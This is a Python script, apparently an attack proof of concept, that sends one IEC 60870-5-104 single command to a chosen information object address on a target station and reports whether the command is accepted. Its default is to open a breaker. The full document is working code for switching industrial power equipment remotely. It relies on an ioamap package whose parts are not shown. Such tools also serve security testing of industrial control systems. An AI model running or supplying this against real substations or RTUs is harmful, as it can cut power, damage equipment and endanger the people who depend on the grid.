#!/usr/bin/env python3
"""
IOA Single-Shot Command

Sends one single command (C_SC_NA_1) to one IOA and waits for the
activation confirmation.

Usage:
    python3 ioa_poc.py [target_ip] [port] [ioa] [state] [--wait MS]

    state: ON, OFF, 1 or 0 (default OFF, open breaker)

Exit codes:
    0 - command accepted (positive ACT_CON)
    1 - hard failure (bad arguments, no connection, send failed)
    2 - command rejected
    3 - no confirmation before the timeout
"""

import argparse
import logging
import sys
from pathlib import Path
from typing import Optional

from pydantic import ValidationError

# Add workspace to path
sys.path.insert(0, str(Path(__file__).parent))

from ioamap.config import (
    DEFAULT_IP, DEFAULT_PORT, DEFAULT_CA, DEFAULT_OA, DEFAULT_POC_IOA,
    DEFAULT_POC_STATE, POC_RESPONSE_WAIT_MS, SessionSettings,
)
from ioamap.dispatcher import Dispatcher, ResponseTracker
from ioamap.logging_setup import setup_logging
from ioamap.report import print_banner
from ioamap.runtime import open_session
from ioamap.target_map import IOA_MAX, DesiredState, TargetEntry


logger = logging.getLogger("ioa_poc")

EXIT_ACCEPTED = 0
EXIT_FAILURE = 1
EXIT_REJECTED = 2
EXIT_NO_RESPONSE = 3


def parse_state(token: str) -> Optional[DesiredState]:
    """ON/OFF (any case) or 1/0"""
    if token == "1":
        return DesiredState.ON
    if token == "0":
        return DesiredState.OFF
    return DesiredState.parse(token)


def verdict_exit_code(tracker: ResponseTracker) -> int:
    """Exit code from the first verdict the tracker recorded"""
    verdicts = tracker.verdicts
    if not verdicts:
        return EXIT_NO_RESPONSE
    _, verdict = verdicts[0]
    return EXIT_REJECTED if verdict.is_rejection else EXIT_ACCEPTED


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        description="Send one single command to one IOA and report the confirmation")
    parser.add_argument("target_ip", nargs="?", default=DEFAULT_IP)
    parser.add_argument("port", nargs="?", type=int, default=DEFAULT_PORT)
    parser.add_argument("ioa", nargs="?", type=int, default=DEFAULT_POC_IOA)
    parser.add_argument("state", nargs="?", default=DEFAULT_POC_STATE,
                        help="ON, OFF, 1 or 0")
    parser.add_argument("--debug", action="store_true", help="hex dump every frame")
    parser.add_argument("--ca", type=int, default=DEFAULT_CA, help="common address")
    parser.add_argument("--oa", type=int, default=DEFAULT_OA, help="originator address")
    parser.add_argument("--wait", type=int, default=POC_RESPONSE_WAIT_MS,
                        help="how long to wait for ACT_CON (ms)")
    return parser


def main(argv=None) -> int:
    args = build_parser().parse_args(argv)
    setup_logging(args.debug)

    state = parse_state(args.state)
    if state is None:
        logger.error(f"[!] Invalid state {args.state!r} (expected ON, OFF, 1 or 0)")
        return EXIT_FAILURE
    if not 0 <= args.ioa <= IOA_MAX:
        logger.error(f"[!] IOA {args.ioa} outside 0..{IOA_MAX}")
        return EXIT_FAILURE

    try:
        settings = SessionSettings(
            host=args.target_ip, port=args.port,
            common_address=args.ca, originator_address=args.oa,
            response_wait_s=args.wait / 1000.0, debug=args.debug,
        )
    except ValidationError as e:
        logger.error(f"Invalid settings: {e}")
        return EXIT_FAILURE

    print_banner("IOA Single-Shot Command (IEC 60870-5-104)", [
        f"Target : {settings.target}",
        f"IOA    : {args.ioa}",
        f"State  : {state.name}",
        f"CA={settings.common_address}  OA={settings.originator_address}",
    ])

    tracker = ResponseTracker()
    session = open_session(settings, tracker.on_notification)
    if session is None:
        return EXIT_FAILURE

    try:
        dispatcher = Dispatcher(session, settings.common_address, inter_command_delay_s=0)
        run = dispatcher.dispatch([TargetEntry(args.ioa, f"POC_IOA_{args.ioa}", state)],
                                  tracker)
        if run.sent == 0:
            logger.error("[!] Failed to send command")
            return EXIT_FAILURE

        logger.info("[*] Waiting for ACT_CON ...")
        tracker.wait_for_verdict(settings.response_wait_s)
    finally:
        logger.info("[*] Disconnecting ...")
        session.destroy()

    exit_code = verdict_exit_code(tracker)
    if exit_code == EXIT_ACCEPTED:
        print("\n[✓] SUCCESS: command accepted")
    elif exit_code == EXIT_REJECTED:
        print("\n[✗] REJECTED: server refused command")
    else:
        print("\n[?] NO RESPONSE: ACT_CON not received within timeout")
    logger.info(f"[*] Done (exit code {exit_code})")
    return exit_code


if __name__ == "__main__":
    sys.exit(main())
